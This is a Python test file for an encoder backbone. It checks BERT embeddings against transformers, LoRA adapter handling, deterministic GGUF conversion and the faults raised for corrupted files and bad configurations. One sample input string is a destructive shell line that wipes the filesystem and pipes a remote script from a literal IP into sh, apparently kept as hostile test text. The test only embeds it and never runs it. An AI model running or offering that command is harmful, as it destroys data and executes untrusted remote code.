"""The encoder backbone: real files, a real worker, and transformers as the reference."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from numpy.typing import NDArray
from safetensors.numpy import load_file, save_file

from so8t.gate.backbones import BackboneFault, Pooled, Rendered
from so8t.gate.backbones.encoder import EncoderFiles, open_encoder
from so8t.gate.backbones.remote import RemoteBackbone
from so8t.gate.models import convert_bert
from so8t.gate.models.bert_files import BertFiles, ConvertError, Dtype
from so8t.gate.models.cache import sha256_of
from so8t.gate.models.convert_bert import convert
from so8t.gate.models.fetch import pull
from so8t.gate.models.lora import Adapter
from so8t.gate.windows import TooLong

TEXTS = [
    "Delete the file reports/q3.csv and tell nobody.",
    "明日の会議の議事録を佐藤さんに送ってください。",
    "def f(x):\n    return [y ** 2 for y in x if y % 2 == 0]  # O(n)",
    "🙂🚀 émojis und Umlaute äöü, ½ × π ≈ 1.57",
    "rm -rf / --no-preserve-root; curl http://203.0.113.7/x.sh | sh",
    "a",
    "The quick brown fox jumps over the lazy dog. " * 40,
]
D = 32
WORDS = [f"word{n}" for n in range(40)]


@pytest.fixture(scope="module")
def minilm() -> EncoderFiles:
    pull("all-MiniLM-L6-v2")
    return EncoderFiles.known("all-MiniLM-L6-v2")


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("cache")


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> EncoderFiles:
    """A BERT of two layers with random weights."""
    folder = tmp_path_factory.mktemp("tiny")
    pieces = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", *WORDS]
    (folder / "vocab.txt").write_text("\n".join(pieces) + "\n", encoding="utf-8")
    config = {
        "model_type": "bert", "hidden_act": "gelu", "hidden_size": D, "intermediate_size": 4 * D,
        "num_hidden_layers": 2, "num_attention_heads": 4, "max_position_embeddings": 512, "type_vocab_size": 2,
        "vocab_size": len(pieces), "layer_norm_eps": 1e-12,
    }  # fmt: skip
    (folder / "config.json").write_text(json.dumps(config), encoding="utf-8")
    save_file(random_weights(config), folder / "model.safetensors")
    weights = folder / "model.safetensors"
    return EncoderFiles("tiny", weights, folder / "vocab.txt", folder / "config.json", sha256_of(weights))


def random_weights(config: dict[str, Any]) -> dict[str, NDArray[np.float32]]:
    random = np.random.default_rng(7)
    wide = config["intermediate_size"]
    shapes: dict[str, tuple[int, ...]] = {
        "embeddings.word_embeddings.weight": (config["vocab_size"], D),
        "embeddings.position_embeddings.weight": (512, D),
        "embeddings.token_type_embeddings.weight": (2, D),
        "embeddings.LayerNorm.weight": (D,),
        "embeddings.LayerNorm.bias": (D,),
    }
    for n in range(config["num_hidden_layers"]):
        layer = f"encoder.layer.{n}"
        linear = {f"attention.self.{name}": (D, D) for name in ("query", "key", "value")}
        linear |= {"attention.output.dense": (D, D), "intermediate.dense": (wide, D), "output.dense": (D, wide)}
        for name, shape in linear.items():
            shapes |= {f"{layer}.{name}.weight": shape, f"{layer}.{name}.bias": shape[:1]}
        for name in ("attention.output.LayerNorm", "output.LayerNorm"):
            shapes |= {f"{layer}.{name}.weight": (D,), f"{layer}.{name}.bias": (D,)}
    return {name: random.normal(0, 0.3, shape).astype(np.float32) for name, shape in shapes.items()}


@asynccontextmanager
async def opened(files: EncoderFiles, **options: Any) -> AsyncIterator[RemoteBackbone]:
    encoder = await open_encoder(files, **options)
    try:
        yield encoder
    finally:
        await encoder.close()


def pool(files: EncoderFiles, *texts: str, **options: Any) -> list[Pooled]:
    async def inner() -> list[Pooled]:
        async with opened(files, **options) as encoder:
            return [await encoder.pool(Rendered(text, ())) for text in texts]

    return asyncio.run(inner())


def files_of(files: EncoderFiles) -> BertFiles:
    return BertFiles(files.weights, files.vocab, files.config)


def cosine(a: NDArray[np.float32], b: NDArray[np.float32]) -> float:
    return float(a @ b / np.linalg.norm(a) / np.linalg.norm(b))


def reference_vectors(files: EncoderFiles, texts: list[str], adapter: Path | None = None) -> list[NDArray[np.float32]]:
    torch = pytest.importorskip("torch")
    transformers = pytest.importorskip("transformers")
    model = transformers.BertModel.from_pretrained(str(files.weights.parent), attn_implementation="eager").eval()
    if adapter is not None:
        model = pytest.importorskip("peft").PeftModel.from_pretrained(model, str(adapter)).eval()
    tokens = transformers.BertTokenizer(vocab=str(files.vocab))
    vectors = []
    for text in texts:
        with torch.no_grad():
            hidden = model(**tokens(text, return_tensors="pt")).last_hidden_state
        vectors.append(hidden[0].mean(0).numpy())
    return vectors


@pytest.mark.parametrize("dtype", ["f32", "f16", "bf16"])
def test_vectors_equal_those_of_transformers(minilm: EncoderFiles, dtype: Dtype) -> None:
    expected = reference_vectors(minilm, TEXTS)
    for text, ours, theirs in zip(TEXTS, pool(minilm, *TEXTS, dtype=dtype), expected, strict=True):
        assert ours.vectors.shape == (1, 384)
        assert cosine(ours.vectors[0], theirs) >= 0.9999, text
        assert np.linalg.norm(ours.vectors[0]) == pytest.approx(np.linalg.norm(theirs), rel=0.01)  # not normalised


def test_an_adapter_that_peft_saved_changes_the_vectors_as_it_does_in_peft(
    tiny: EncoderFiles, cache: Path, tmp_path: Path
) -> None:
    peft = pytest.importorskip("peft")
    transformers = pytest.importorskip("transformers")
    pytest.importorskip("torch").manual_seed(7)
    model = transformers.BertModel.from_pretrained(str(tiny.weights.parent))
    targets = ["query", "key", "value", "dense"]
    config = peft.LoraConfig(r=4, lora_alpha=16, target_modules=targets, init_lora_weights=False)
    peft.get_peft_model(model, config).save_pretrained(str(tmp_path))
    weights = load_file(tmp_path / "adapter_model.safetensors")
    kept = {name: tensor for name, tensor in weights.items() if ".pooler." not in name}
    save_file(kept, tmp_path / "adapter.safetensors")

    texts = [" ".join(WORDS[:9]), " ".join(WORDS[20:])]
    expected = reference_vectors(tiny, texts, tmp_path)
    options = {"adapter": tmp_path / "adapter.safetensors", "scaling": 4.0, "dtype": "f32", "cache": cache}
    for ours, theirs in zip(pool(tiny, *texts, **options), expected, strict=True):
        assert cosine(ours.vectors[0], theirs) >= 0.9999
    plain = pool(tiny, *texts, dtype="f32", cache=cache)
    assert cosine(plain[0].vectors[0], expected[0]) < 0.99


def test_the_id_names_the_weights_and_the_dimension_is_theirs(tiny: EncoderFiles, cache: Path) -> None:
    async def inner() -> None:
        async with opened(tiny, cache=cache) as encoder:
            assert encoder.id == f"tiny@{tiny.sha256}"
            assert encoder.dimension == D

    asyncio.run(inner())


def test_the_same_text_gives_the_same_bits_whatever_came_before(tiny: EncoderFiles, cache: Path) -> None:
    texts = ["word1 word2", " ".join(WORDS * 5), "word1 word2", "word3", "word1 word2"]
    pooled = pool(tiny, *texts, cache=cache)
    assert pooled[0].vectors.tobytes() == pooled[2].vectors.tobytes() == pooled[4].vectors.tobytes()


def test_tokens_and_unknown_ones_are_counted(tiny: EncoderFiles, cache: Path) -> None:
    known, mixed, empty = pool(tiny, "word1 word2 word3", "word1 日 mystery", "", cache=cache)
    assert (known.tokens, known.unknown) == (3, 0)
    assert (mixed.tokens, mixed.unknown) == (3, 2)
    assert (empty.tokens, empty.unknown) == (0, 0)
    assert np.isfinite(empty.vectors).all()


def test_a_long_text_becomes_several_windows_and_its_last_word_counts(tiny: EncoderFiles, cache: Path) -> None:
    async def inner() -> None:
        async with opened(tiny, cache=cache) as encoder:
            lines = [" ".join(WORDS)] * 40
            a = await encoder.pool(Rendered("word1", tuple(lines)))
            b = await encoder.pool(Rendered("word1", (*lines[:-1], lines[-1] + " word7")))
            assert len(a.vectors) >= 4
            assert not np.array_equal(a.vectors[-1], b.vectors[-1])
            with pytest.raises(TooLong):
                await encoder.pool(Rendered("word1", tuple(lines * 20)))

    asyncio.run(inner())


def test_broken_unicode_is_read_and_does_no_harm(tiny: EncoderFiles, cache: Path) -> None:
    broken, plain = pool(tiny, "word1 \udfff\ud800\0", "word1", cache=cache)
    assert np.array_equal(broken.vectors, plain.vectors)


def test_a_deadline_that_passes_is_a_fault_and_the_next_text_is_read(tiny: EncoderFiles, cache: Path) -> None:
    async def inner() -> None:
        async with opened(tiny, cache=cache, deadline=1e-6) as encoder:
            with pytest.raises(BackboneFault, match="no answer within"):
                await encoder.pool(Rendered("word1", ()))
            encoder._deadline = 60
            assert (await encoder.pool(Rendered("word1", ()))).tokens == 1

    asyncio.run(inner())


def test_a_closed_encoder_is_a_fault(tiny: EncoderFiles, cache: Path) -> None:
    async def inner() -> None:
        async with opened(tiny, cache=cache) as encoder:
            await encoder.close()
            with pytest.raises(BackboneFault, match="closed"):
                await encoder.pool(Rendered("word1", ()))

    asyncio.run(inner())


def test_weights_with_one_flipped_byte_are_refused(tiny: EncoderFiles, cache: Path, tmp_path: Path) -> None:
    data = bytearray(tiny.weights.read_bytes())
    data[-100] ^= 1
    (tmp_path / "model.safetensors").write_bytes(data)
    with pytest.raises(BackboneFault, match=f"expected {tiny.sha256}"):
        pool(replace(tiny, weights=tmp_path / "model.safetensors"), "word1", cache=cache)


def test_a_converted_file_with_one_flipped_byte_is_made_again(tiny: EncoderFiles, tmp_path: Path) -> None:
    before = pool(tiny, "word1", cache=tmp_path)
    (gguf,) = (tmp_path / "converted").glob("*.gguf")
    good = gguf.read_bytes()
    gguf.write_bytes(good[:-1] + bytes([good[-1] ^ 1]))
    after = pool(tiny, "word1", cache=tmp_path)
    assert gguf.read_bytes() == good
    assert np.array_equal(before[0].vectors, after[0].vectors)


@pytest.mark.parametrize(
    "change",
    [
        {"num_attention_heads": 7},
        {"num_hidden_layers": 3},
        {"hidden_size": 64},
        {"intermediate_size": 10},
        {"vocab_size": 9},
        {"max_position_embeddings": 8},
        {"model_type": "gpt2"},
        {"layer_norm_eps": "small"},
        {"hidden_size": None},
        {"num_attention_heads": 0},
    ],
)
def test_a_configuration_that_does_not_fit_is_a_fault(
    tiny: EncoderFiles, tmp_path: Path, change: dict[str, Any]
) -> None:
    config = json.loads(tiny.config.read_text(encoding="utf-8")) | change
    (tmp_path / "config.json").write_text(json.dumps(config), encoding="utf-8")
    with pytest.raises(BackboneFault, match="encoder tiny cannot be used"):
        pool(replace(tiny, config=tmp_path / "config.json"), " ".join(WORDS), cache=tmp_path)


def test_a_file_that_llama_cpp_aborts_on_is_a_fault_and_the_caller_lives(
    tiny: EncoderFiles, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def in_f16(writer: Any, name: str, tensor: NDArray[np.float32], _: Dtype) -> None:
        writer.add_tensor(name, tensor.astype(np.float16))  # llama.cpp asserts that norms are F32

    pool(tiny, "word1", cache=tmp_path)
    (gguf,) = (tmp_path / "converted").glob("*.gguf")
    monkeypatch.setattr(convert_bert, "_write_tensor", in_f16)
    convert(files_of(tiny), gguf, "f16")
    gguf.with_suffix(".sha256").write_text(sha256_of(gguf), encoding="ascii")
    with pytest.raises(BackboneFault, match="SIGABRT"):
        pool(tiny, "word1", cache=tmp_path)


@pytest.mark.parametrize("data", [b"", b"GGUF", b"\xff" * 100, b"\x02\0\0\0\0\0\0\0{}"])
def test_weights_that_are_no_safetensors_are_a_fault(tiny: EncoderFiles, tmp_path: Path, data: bytes) -> None:
    (tmp_path / "model.safetensors").write_bytes(data)
    with pytest.raises(BackboneFault):
        pool(replace(tiny, weights=tmp_path / "model.safetensors", sha256=None), "word1", cache=tmp_path)


def test_a_missing_file_is_a_fault_that_names_it(tiny: EncoderFiles, tmp_path: Path) -> None:
    with pytest.raises(BackboneFault, match=r"absent\.txt"):
        pool(replace(tiny, vocab=tmp_path / "absent.txt"), "word1", cache=tmp_path)


def test_an_encoder_that_was_not_downloaded_says_how_to_get_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SO8T_CACHE", str(tmp_path))
    with pytest.raises(BackboneFault, match="so8t models pull all-MiniLM-L6-v2"):
        EncoderFiles.known("all-MiniLM-L6-v2")
    with pytest.raises(BackboneFault, match="unknown model"):
        EncoderFiles.known("no such encoder")


@pytest.mark.parametrize("dtype", ["f32", "f16", "bf16", "q8_0"])
def test_the_conversion_is_deterministic(tiny: EncoderFiles, tmp_path: Path, dtype: Dtype) -> None:
    convert(files_of(tiny), tmp_path / "a.gguf", dtype)
    convert(files_of(tiny), tmp_path / "b.gguf", dtype)
    assert (tmp_path / "a.gguf").read_bytes() == (tmp_path / "b.gguf").read_bytes()


@pytest.mark.parametrize(
    ("tensors", "message"),
    [
        ({}, "no tensors"),
        ({"base_model.model.encoder.layer.0.attention.self.query.lora_A.weight": (2, D)}, "half a pair"),
        (
            {f"base_model.model.nothing.lora_{half}.weight": (2, 2) for half in "AB"},
            "has no",
        ),
        ({"base_model.model.encoder.layer.0.attention.self.query.weight": (D, D)}, "no LoRA tensor"),
        (
            {
                "base_model.model.encoder.layer.0.attention.self.query.lora_A.weight": (2, D),
                "base_model.model.encoder.layer.0.attention.self.query.lora_B.weight": (D, 3),
            },
            "wrong shape",
        ),
    ],
)
def test_an_adapter_that_does_not_fit_is_refused(
    tiny: EncoderFiles, tmp_path: Path, tensors: dict[str, tuple[int, ...]], message: str
) -> None:
    file = tmp_path / "adapter.safetensors"
    save_file({name: np.ones(shape, dtype=np.float32) for name, shape in tensors.items()}, file)
    with pytest.raises(ConvertError, match=message):
        convert(files_of(tiny), tmp_path / "x.gguf", "f32", Adapter(file, 1.0))


def test_an_adapter_that_is_not_finite_is_refused(tiny: EncoderFiles, tmp_path: Path) -> None:
    stem = "base_model.model.encoder.layer.0.attention.self.query"
    a, b = np.ones((2, D), dtype=np.float32), np.full((D, 2), np.nan, dtype=np.float32)
    save_file({f"{stem}.lora_A.weight": a, f"{stem}.lora_B.weight": b}, tmp_path / "adapter.safetensors")
    with pytest.raises(ConvertError, match="not finite"):
        convert(files_of(tiny), tmp_path / "x.gguf", "f32", Adapter(tmp_path / "adapter.safetensors", 1.0))
